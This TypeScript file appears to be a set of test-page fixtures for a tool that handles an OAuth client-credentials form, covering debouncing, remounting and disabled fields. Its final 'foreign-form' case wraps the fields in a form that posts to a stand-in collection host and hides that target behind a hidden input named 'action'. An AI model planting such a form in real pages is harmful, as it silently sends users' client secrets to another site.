import { FIELDS, type FieldId, expose, mountPoint } from '../fields.ts';
import { plainForm, remount } from './plain.ts';

/** Validation that looks at the form a moment after the last change, and only says something. */
function debounced(): void {
  const form = plainForm();
  let timer = 0;
  form.onInput((id, box) => {
    clearTimeout(timer);
    timer = window.setTimeout(() => box.setAttribute('aria-invalid', String(form.values[id].length < 3)), 300);
  });
}

/** Debounced code that rewrites: the Tenant in capitals, the secret cut. */
function rewriting(): void {
  const form = plainForm({ tenant: 'value="before"' });
  const timers: Partial<Record<FieldId, number>> = {};
  form.onInput((id, box) => {
    clearTimeout(timers[id]);
    timers[id] = window.setTimeout(() => {
      if (id === 'tenant') box.value = form.values.tenant = box.value.toUpperCase();
      if (id === 'clientSecret') box.value = form.values.clientSecret = box.value.slice(0, 36);
    }, 300);
  });
}

/** Each box is mounted anew, empty, at its first letter. */
function remountOnInput(): void {
  const form = plainForm();
  const seen = new Set<FieldId>();
  form.onInput((id, box) => {
    if (seen.has(id)) return;
    seen.add(id);
    form.values[id] = '';
    remount(box);
  });
}

/** Boxes that are mounted anew when they get the focus, and read-only before. */
function remountOnFocus(): void {
  plainForm({ clientId: 'readonly', tenant: 'readonly' });
  const seen = new Set<string>();
  mountPoint().addEventListener('focusin', ({ target }) => {
    const box = target as HTMLInputElement;
    if (seen.has(box.id)) return;
    seen.add(box.id);
    remount(box).readOnly = false;
  });
}

/** The whole form is drawn anew, empty, a while after the first change: its data came from the server. */
function remountLate(): void {
  const form = plainForm();
  let timer = 0;
  form.onInput(() => {
    timer ||= window.setTimeout(() => {
      for (const { id } of FIELDS) {
        form.values[id] = '';
        remount(form.box(id));
      }
    }, 150);
  });
}

/** A page that never keeps a box: each write mounts it anew. */
function remountForEver(): void {
  const form = plainForm();
  form.onInput((id, box) => {
    form.values[id] = '';
    remount(box);
  });
}

/** Boxes that take no value, or none of this length. */
function refusing(): void {
  const form = plainForm({
    clientId: 'readonly value="from the server"',
    clientSecret: 'maxlength="64"',
    tenant: 'disabled',
  });
  const fieldset = document.createElement('fieldset');
  fieldset.disabled = true;
  const row = form.box('authorizationServer').closest('p');
  row?.replaceWith(fieldset);
  if (row) fieldset.append(row);
}

/** A box that anything can be typed into, a list, and a long text. */
function otherControls(): void {
  const values: Record<string, string> = {};
  mountPoint().innerHTML = `
    <p><span id="l1">Client ID</span> <span id="clientId" role="textbox" aria-labelledby="l1" contenteditable="true" style="display:inline-block;min-width:20em;border:1px solid">&nbsp;</span></p>
    <p><label for="clientSecret">Client Secret</label> <input id="clientSecret" type="password" required minlength="20"></p>
    <p><label for="resourceServer">Resource Server</label> <textarea id="resourceServer"></textarea></p>
    <p><label for="authorizationServer">Authorization Server</label> <input id="authorizationServer" type="url"></p>
    <p><label for="tenant">Tenant</label> <select id="tenant"><option value="">Choose</option><option value="t-1">acme</option><option value="t-2">globex</option></select></p>
    <button type="button">Save and Test</button>`;
  const take = ({ target }: Event) => {
    const box = target as HTMLInputElement;
    values[box.id] =
      box.id === 'clientId'
        ? (box.textContent ?? '')
        : box.id === 'tenant'
          ? ((target as unknown as HTMLSelectElement).selectedOptions[0]?.text ?? '')
          : box.value;
  };
  mountPoint().addEventListener('input', take);
  mountPoint().addEventListener('change', take);
  expose(
    () => Object.fromEntries(FIELDS.map(({ id }) => [id, values[id] ?? ''])) as ReturnType<typeof window.__model>,
    () => {},
  );
}

/** A form that would send everything to another site, which hides that behind a box named as the attribute. */
function foreignForm(): void {
  const form = plainForm();
  const around = document.createElement('form');
  around.setAttribute('action', 'https://collect.example/take');
  around.append(...mountPoint().childNodes);
  around.insertAdjacentHTML('beforeend', '<input name="action" type="hidden" value="/save">');
  mountPoint().append(around);
  form.box('tenant').name = 'tenant';
}

const CASES: Record<string, () => void> = {
  debounced,
  rewriting,
  'remount-on-input': remountOnInput,
  'remount-on-focus': remountOnFocus,
  'remount-late': remountLate,
  'remount-for-ever': remountForEver,
  refusing,
  'other-controls': otherControls,
  'foreign-form': foreignForm,
};

CASES[new URLSearchParams(location.search).get('case') ?? '']?.();
